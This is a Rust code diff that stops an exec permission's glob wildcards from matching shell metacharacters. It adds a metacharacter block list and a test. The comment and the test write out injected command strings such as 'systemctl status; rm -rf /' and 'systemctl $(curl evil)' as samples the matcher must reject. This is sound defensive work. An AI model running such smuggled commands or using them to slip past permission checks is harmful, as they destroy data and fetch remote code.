@@ -72,7 +72,8 @@ impl FromStr for Grant {
 pub struct Grants {
     granted: Vec<Grant>,
     /// When non-empty, `exec` only allows commands matching one of these
-    /// glob patterns (`*` any run of characters, `?` one character).
+    /// glob patterns (`*` any run of characters, `?` one character, neither
+    /// matching a shell metacharacter: see [`glob_match`]).
     pub command_patterns: Vec<String>,
 }
 
@@ -122,21 +123,31 @@ impl fmt::Display for Grants {
     }
 }
 
-/// Matches `text` against a glob with `*` and `?`, iteratively (no
-/// backtracking blow-up on hostile patterns).
+/// Characters a wildcard never matches. Commands run through `/bin/sh -c`,
+/// so without this `systemctl *` would also allow
+/// `systemctl status; rm -rf /` or `systemctl $(curl evil)`. A pattern may
+/// still contain them literally.
+const SHELL_METACHARACTERS: &[char] = &[
+    ';', '&', '|', '$', '`', '<', '>', '(', ')', '\n', '\r', '\\',
+];
+
+/// Matches `text` against a glob with `*` and `?` (which never match a
+/// shell metacharacter), iteratively (no backtracking blow-up on hostile
+/// patterns).
 pub fn glob_match(pattern: &str, text: &str) -> bool {
     let p: Vec<char> = pattern.chars().collect();
     let t: Vec<char> = text.chars().collect();
+    let wild_ok = |c: char| !SHELL_METACHARACTERS.contains(&c);
     let (mut pi, mut ti) = (0, 0);
     let mut star: Option<(usize, usize)> = None;
     while ti < t.len() {
-        if pi < p.len() && (p[pi] == '?' || p[pi] == t[ti]) {
+        if pi < p.len() && ((p[pi] == '?' && wild_ok(t[ti])) || p[pi] == t[ti]) {
             pi += 1;
             ti += 1;
         } else if pi < p.len() && p[pi] == '*' {
             star = Some((pi, ti));
             pi += 1;
-        } else if let Some((star_p, star_t)) = star {
+        } else if let Some((star_p, star_t)) = star.filter(|&(_, st)| wild_ok(t[st])) {
             pi = star_p + 1;
             ti = star_t + 1;
             star = Some((star_p, star_t + 1));
@@ -192,6 +203,20 @@ mod tests {
         assert!(glob_match("*", ""));
         assert!(!glob_match("a*b*c", "aXbX"));
         assert!(glob_match(&"*a".repeat(20), &"a".repeat(40)));
+    }
+
+    #[test]
+    fn wildcards_do_not_smuggle_shell() {
+        assert!(!glob_match("systemctl *", "systemctl status; rm -rf /"));
+        assert!(!glob_match("systemctl *", "systemctl $(curl evil)"));
+        assert!(!glob_match("systemctl *", "systemctl x | sh"));
+        assert!(!glob_match("systemctl *", "systemctl x\nrm -rf /"));
+        assert!(!glob_match("systemctl ?", "systemctl ;"));
+        assert!(glob_match(
+            "systemctl * || true",
+            "systemctl stop nginx || true"
+        ));
+        assert!(glob_match("systemctl *", "systemctl enable 'my unit'"));
     }
 
     #[test]
